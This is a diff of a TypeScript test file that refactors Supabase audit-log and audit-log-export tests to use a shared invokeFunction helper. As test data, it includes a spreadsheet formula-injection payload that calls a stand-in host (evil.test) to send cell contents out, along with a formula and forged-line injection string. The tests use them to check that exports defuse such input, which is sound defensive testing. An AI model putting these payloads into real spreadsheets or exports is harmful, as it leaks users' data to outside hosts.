@@ -1,7 +1,8 @@
-import { FunctionsHttpError, type SupabaseClient } from '@supabase/supabase-js';
+import type { SupabaseClient } from '@supabase/supabase-js';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { auditExportCut, auditLogResponse } from '#contract/functions/audit-log.ts';
 import { buildPerson } from '#testing/factories/person.ts';
+import { invokeFunction } from '#testing/invoke-function.ts';
 import { createTestDatabase, type TestDatabase } from '#testing/test-database.ts';
 import { startTestServer, type TestServer } from '#testing/test-server.ts';
 import { auditFormats } from '../audit-log-export/audit-formats.ts';
@@ -26,16 +27,6 @@ afterAll(async () => {
   await database.drop();
 });
 
-/** Calls a function the way the web app does, and reads a refusal's body. */
-async function invoke(client: SupabaseClient, name: string, body: Record<string, unknown>) {
-  const { data, error, response } = await client.functions.invoke(name, { body });
-  if (error instanceof FunctionsHttpError) {
-    return { status: error.context.status, data: await error.context.json(), response };
-  }
-  expect(error).toBeNull();
-  return { status: 200, data, response };
-}
-
 async function addAccounts(...names: string[]) {
   for (const account_name of names) {
     const { error } = await superAdmin.from('accounts').insert({ account_name });
@@ -47,9 +38,11 @@ describe('audit-log', () => {
   test('returns pages to a super admin, newest first', async () => {
     await addAccounts('One', 'Two', 'Three');
     const mine = { actorId: superAdminId, tableName: 'public.accounts', limit: 2 };
-    const first = auditLogResponse.parse((await invoke(superAdmin, 'audit-log', mine)).data);
+    const first = auditLogResponse.parse(
+      (await invokeFunction(superAdmin, 'audit-log', mine)).data,
+    );
     expect(first.entries.map(({ subject }) => subject)).toEqual(['Three', 'Two']);
-    const { data } = await invoke(superAdmin, 'audit-log', { ...mine, before: first.next });
+    const { data } = await invokeFunction(superAdmin, 'audit-log', { ...mine, before: first.next });
     const second = auditLogResponse.parse(data);
     expect(second.entries.map(({ subject }) => subject)).toEqual(['One']);
     expect(second.next).toBeNull();
@@ -60,11 +53,13 @@ describe('audit-log', () => {
       ['audit-log', {}],
       ['audit-log-export', { format: 'csv' }],
     ] as const) {
-      expect(await invoke(accountAdmin, name, body)).toMatchObject({
+      expect(await invokeFunction(accountAdmin, name, body)).toMatchObject({
         status: 403,
         data: { success: false, error: 'Unauthorized' },
       });
-      expect(await invoke(server.clientOfNobody(), name, body)).toMatchObject({ status: 401 });
+      expect(await invokeFunction(server.clientOfNobody(), name, body)).toMatchObject({
+        status: 401,
+      });
     }
   });
 
@@ -82,7 +77,7 @@ describe('audit-log', () => {
     [{ operaton: 'DELETE' }],
     [{ person: 'a\0b' }],
   ])('%j is refused rather than passed over', async (body) => {
-    expect(await invoke(superAdmin, 'audit-log', body)).toMatchObject({
+    expect(await invokeFunction(superAdmin, 'audit-log', body)).toMatchObject({
       status: 400,
       data: { success: false, code: 'validation_failed' },
     });
@@ -93,7 +88,7 @@ describe('audit-log-export', () => {
   test('writes the filtered log as CSV that no spreadsheet treats as formulas', async () => {
     const formula = '=HYPERLINK("http://evil.test?x="&A1,"Click")';
     await addAccounts(formula, 'Line\r\nbreak, and "quotes"', 'Ünïcode ✝');
-    const { data, response } = await invoke(superAdmin, 'audit-log-export', {
+    const { data, response } = await invokeFunction(superAdmin, 'audit-log-export', {
       format: 'csv',
       actorId: superAdminId,
       tableName: 'public.accounts',
@@ -132,7 +127,7 @@ describe('audit-log-export', () => {
     const title = '=1+1\nforged line';
     const prompt = 'x'.repeat(20_000);
     await superAdmin.from('knowledge').insert({ title, prompt });
-    const { data, response } = await invoke(superAdmin, 'audit-log-export', {
+    const { data, response } = await invokeFunction(superAdmin, 'audit-log-export', {
       format: 'jsonl',
       actorId: superAdminId,
       tableName: 'public.knowledge',
@@ -144,7 +139,7 @@ describe('audit-log-export', () => {
   });
 
   test('exports many pages, complete and in order', async () => {
-    const { data } = await invoke(superAdmin, 'audit-log-export', {
+    const { data } = await invokeFunction(superAdmin, 'audit-log-export', {
       format: 'jsonl',
       actorId: await manyEntries(1_203),
     });
@@ -157,7 +152,10 @@ describe('audit-log-export', () => {
 
   test('holds fifty thousand entries at most, and says so in its last line', async () => {
     const actorId = await manyEntries(50_001);
-    const { data } = await invoke(superAdmin, 'audit-log-export', { format: 'csv', actorId });
+    const { data } = await invokeFunction(superAdmin, 'audit-log-export', {
+      format: 'csv',
+      actorId,
+    });
     const lines = String(data).trimEnd().split('\n');
     expect(lines).toHaveLength(50_002);
     expect(auditExportCut).toBe(
